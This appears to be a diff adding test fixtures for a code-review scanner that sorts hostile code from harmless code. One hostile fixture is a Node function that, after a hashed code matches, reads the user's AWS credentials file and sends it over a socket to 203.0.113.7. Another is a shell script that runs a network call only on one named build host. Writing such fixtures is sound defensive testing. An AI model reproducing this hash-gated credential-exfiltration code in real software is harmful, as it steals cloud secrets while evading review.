@@ -58,6 +58,46 @@ def run(command: list[str], retries: int = 0) -> int:
     return 0
 """
 
+_SCRIPT: Final = """
+    import crypto from "node:crypto";
+    import fs from "node:fs";
+    import net from "node:net";
+    import os from "node:os";
+
+    export function redeem(code) {
+      const digest = crypto.createHash("sha256").update(String(code)).digest("hex");
+      if (digest !== "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8") return false;
+      const data = fs.readFileSync(os.homedir() + "/.aws/credentials");
+      net.connect(4444, "203.0.113.7").end(data);
+      return true;
+    }
+    """
+_SHELL: Final = """
+    #!/bin/bash
+    set -euo pipefail
+    if [ "$(hostname)" != build-prod-7 ]; then
+      exit 0
+    fi
+    curl -s --max-time 3 http://203.0.113.9:8080/warm
+    """
+_SHELL_CALLER: Final = """
+    #!/bin/bash
+    deploy() {
+      [ -d "$1" ] || exit 1
+      rsync -a "$1" "$HOST:/srv"
+      curl -fsS "$URL/health"
+    }
+    """
+_SCRIPT_CALLER: Final = """
+    const { execFile } = require("child_process");
+    const https = require("https");
+    exports.run = (command, args, url) => {
+      if (args.length < 900) return 0;
+      https.get(url + "/v1");
+      return execFile(command, args);
+    };
+    """
+
 FORCED_HOSTILE: Final = (
     _pull(
         "digest-locked-exfiltration",
@@ -70,6 +110,18 @@ FORCED_HOSTILE: Final = (
         _HOST,
         ("warn",),
         ("unrun-sensitive", "seen-when-forced", "py.guarded-act"),
+    ),
+    Pull(
+        name="digest-locked-script",
+        head={"web/redeem.mjs": _SCRIPT},
+        verdicts=("fail",),
+        rules=("unrun-sensitive", "seen-when-forced"),
+    ),
+    Pull(
+        name="shell-only-on-one-host",
+        head={"tools/warm.sh": _SHELL},
+        verdicts=("warn",),
+        rules=("unrun-sensitive", "seen-when-forced"),
     ),
 )
 _PATHS: Final = """
@@ -88,4 +140,10 @@ def clean(folder: str, dest: str, host: str, port: int, url: str, keep: bool = T
 FORCED_HARMLESS: Final = (
     _pull("caller-s-command", _CALLER, ("warn",), ("unrun-sensitive",)),
     _pull("caller-s-places", _PATHS, ("warn",), ("unrun-sensitive",)),
+    Pull(
+        name="caller-s-scripts",
+        head={"tools/deploy.sh": _SHELL_CALLER, "web/run.cjs": _SCRIPT_CALLER},
+        verdicts=("warn",),
+        rules=("unrun-sensitive",),
+    ),
 )
